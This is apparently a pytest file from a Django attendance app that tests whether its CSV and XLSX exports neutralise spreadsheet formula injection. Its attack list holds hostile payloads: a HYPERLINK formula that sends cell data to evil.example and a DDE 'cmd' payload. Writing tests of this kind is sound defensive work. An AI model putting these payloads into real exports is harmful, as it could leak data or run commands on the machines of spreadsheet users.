"""CSV and XLSX exports: text that looks like a formula reaches the spreadsheet as text (OWASP CSV injection)."""

import csv
import io
from datetime import date, datetime, timedelta
from io import StringIO

import pytest
from django.core.management import call_command
from django.utils import timezone

from attendance import services as attendance
from core.spreadsheets import cell, unescape
from tests.factories import register

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"pay")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_beginning_like_a_formula_gets_a_single_quote_and_reads_back_unchanged(text):
    assert cell(text) == "'" + text and unescape(cell(text)) == text


@pytest.mark.parametrize("value", [-3.5, -2, 0, 7.25, date(2026, 12, 1), datetime(2026, 12, 1, 9, 0), None, True,
                                   "Ann Lee", "O'Connor", "E-001", "2026-12-01"])
def test_numbers_dates_and_ordinary_text_are_left_alone(value):
    assert cell(value) == value and (not isinstance(value, str) or unescape(value) == value)


def test_text_that_already_begins_with_a_quote_survives_the_round_trip():
    assert cell("'=x") == "''=x" and unescape(cell("'=x")) == "'=x" and unescape(cell("'hi")) == "'hi"


def cells(content: bytes | str) -> list[str]:
    text = content.decode() if isinstance(content, bytes) else content
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_neutralised(values):
    for attack in ATTACKS:
        assert attack not in values, attack  # as written, a spreadsheet would run it
        assert "'" + attack in values, attack


@pytest.fixture
def attacked_events(db, superuser):
    """One event per attack, each employee named (and in a department named) like a formula, today."""
    at = timezone.now().replace(hour=9, minute=0) if timezone.localtime().hour >= 10 else timezone.now()
    for n, attack in enumerate(ATTACKS):
        attendance.event_add(employee_code=f"X{n}", employee_name=attack, department=attack,
                             at=at - timedelta(minutes=n), direction="in", reason=attack, by=superuser)


def test_the_admin_timesheet_csv_is_neutralised(admin_client, attacked_events):
    response = admin_client.get("/admin/attendance/attendanceevent/timesheet/", {"download": "csv"})
    assert response.status_code == 200
    assert_neutralised(cells(response.content))


def test_the_api_timesheet_csv_is_neutralised(api, attacked_events):
    response = api.get("/api/attendance/timesheet/", {"format": "csv"})
    assert response.status_code == 200
    assert_neutralised(cells(response.content))


def test_the_events_csv_is_neutralised(admin_client, attacked_events):
    from attendance.models import AttendanceEvent

    response = admin_client.post("/admin/attendance/attendanceevent/", {
        "action": "export_csv", "_selected_action": list(AttendanceEvent.objects.values_list("pk", flat=True))})
    assert_neutralised(cells(response.content))


def test_the_xlsx_timesheet_stores_text_never_formulas_and_numbers_as_numbers(admin_client, attacked_events):
    from openpyxl import load_workbook

    response = admin_client.get("/admin/attendance/attendanceevent/timesheet/", {"download": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert rows and all(c.data_type != "f" for row in rows for c in row)
    assert {row[2].value.replace("\r", "\n") for row in rows} == {a.replace("\r", "\n") for a in ATTACKS}
    hours = [row[6] for row in rows]  # still numbers: durations, which Excel shows as h:mm
    assert all(isinstance(cell.value, timedelta) and cell.number_format == "[h]:mm" for cell in hours)
    assert all(isinstance(row[0].value, datetime) for row in rows)  # and dates stay dates


def test_the_audit_csv_is_neutralised(admin_client, db):
    from audit.models import AuditEvent
    from core.audit import Action, emit
    from entries.models import FaceEntry

    emit(Action.IDENTIFY, sender=FaceEntry, employee_codes=["E001"], department=ATTACKS[0])
    AuditEvent.objects.update(actor_name=ATTACKS[3])
    response = admin_client.post("/admin/audit/auditevent/", {
        "action": "export_csv", "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True))})
    assert "'" + ATTACKS[3] in cells(response.content) and ATTACKS[3] not in cells(response.content)


@pytest.mark.faces
def test_the_export_faces_manifest_is_neutralised_and_imports_back_unchanged(photo, tmp_path, db):
    from entries.models import FaceEntry

    register(photo, code="E001", image="img1.jpg", name=ATTACKS[0], department=ATTACKS[1],
             consent_reference=ATTACKS[3])
    call_command("export_faces", str(tmp_path / "out"), stdout=StringIO())
    values = cells((tmp_path / "out" / "manifest.csv").read_text(encoding="utf-8"))
    for attack in ATTACKS[:2] + ATTACKS[3:4]:
        assert attack not in values and "'" + attack in values
    FaceEntry.objects.all().delete()
    call_command("import_faces", str(tmp_path / "out" / "manifest.csv"), "--workers", "1", "--no-progress",
                 stdout=StringIO(), stderr=StringIO())
    entry = FaceEntry.objects.get()
    assert (entry.name, entry.department, entry.consent_reference) == (ATTACKS[0], ATTACKS[1], ATTACKS[3])


def shown_length(cell) -> int:
    """Characters a spreadsheet shows for a cell: a date as 2026-12-02, a time as 2026-12-02 09:00:00."""
    if cell.number_format == "[h]:mm":  # a duration, 7:31
        return 5
    if cell.is_date:
        return 10 if cell.number_format == "yyyy-mm-dd" else 19
    return len(str(cell.value))


def test_the_xlsx_timesheets_columns_are_wide_enough_for_their_dates_and_names(admin_client, attacked_events):
    """Without widths a spreadsheet shows a date and time as #### (issue 18, bug 7)."""
    from openpyxl import load_workbook

    response = admin_client.get("/admin/attendance/attendanceevent/timesheet/", {"download": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    for column in sheet.iter_cols():
        shown = max(shown_length(c) for c in column if c.value is not None)
        assert sheet.column_dimensions[column[0].column_letter].width >= min(shown, 60), column[0].value
